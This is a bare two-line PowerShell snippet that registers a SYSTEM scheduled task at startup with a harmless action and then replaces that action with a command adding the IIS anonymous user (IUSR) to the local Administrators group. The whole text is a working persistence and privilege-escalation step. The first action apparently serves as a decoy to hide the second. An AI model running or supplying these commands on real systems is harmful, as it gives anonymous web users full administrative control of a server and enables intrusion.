Register-ScheduledTask -TaskName x -User SYSTEM -Action (New-ScheduledTaskAction -Execute hostname.exe) -Trigger (New-ScheduledTaskTrigger -AtStartup) | Out-Null
Set-ScheduledTask -TaskName x -Action (New-ScheduledTaskAction -Execute net.exe -Argument 'localgroup Administrators IUSR /add') | Out-Null
